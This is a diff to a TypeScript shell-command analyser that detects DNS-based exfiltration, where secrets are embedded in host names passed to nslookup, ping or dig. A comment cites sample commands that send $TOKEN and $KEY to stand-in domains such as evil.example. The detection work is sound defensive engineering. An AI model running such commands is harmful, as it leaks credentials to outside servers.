@@ -266,7 +266,9 @@ function connect(rule: Extract<Rule, { effect: 'connect' }>, c: BashCommand, par
     return;
   }
   if (rule.peer === 'host_port') {
-    const words = parsed.operands.filter((w) => !w.startsWith('-'));
+    // dig's `+short` and `@resolver` are not the name looked up.
+    const words = parsed.operands.slice(subDepth(rule.when)).filter((w) => !w.startsWith('-') && !w.startsWith('+') && !w.startsWith('@'));
+    namedData(c, words, ec, base);
     const host = words.find((w) => !/^\d+$/.test(w)) ?? (listen ? '0.0.0.0' : '');
     const portWord = words.find((w) => /^\d+$/.test(w)) ?? parsed.values.get('p')?.[0];
     if (host !== '' || listen) push(host, portWord !== undefined ? Number(portWord) : null, null);
@@ -274,6 +276,25 @@ function connect(rule: Extract<Rule, { effect: 'connect' }>, c: BashCommand, par
   }
   for (const u of c.urls) push(u.host, u.port, u);
   for (const d of destinations(parsed, c)) push(d, null, null);
+}
+
+/** A variable or a substitution inside a word (`$(…)`, `${…}`, `$X`, backquotes). */
+const DYNAMIC_PART = /\$\((?:[^()]|\([^()]*\))*\)|\$\{[^}]*\}|\$\w+|`[^`]*`/g;
+
+/**
+ * Data inside a name a program connects to or looks up (`nslookup $(… $TOKEN …).x.example`,
+ * `ping "$KEY.evil.example"`): the name carries it to the name's servers, so it is a send to
+ * that domain with the sources that flow into the command.
+ */
+function namedData(c: BashCommand, words: readonly string[], ec: EffectContext, base: { producer: string; command: number }): void {
+  const dynamic = words.filter((w) => /\$[({\w]|`/.test(w));
+  if (dynamic.length === 0) return;
+  const sources = sourcesOf(c, ec, []);
+  if (sources.length === 0) return;
+  for (const w of dynamic) {
+    const domain = w.replace(DYNAMIC_PART, '').replace(/^[.-]+/, '');
+    ec.out.push({ ...base, type: 'send', sink: domain !== '' ? domain : w, url: null, sources });
+  }
 }
 
 /** socat's `TCP:host:port`, `TCP-LISTEN:port`, `EXEC:`/`SYSTEM:` addresses. */
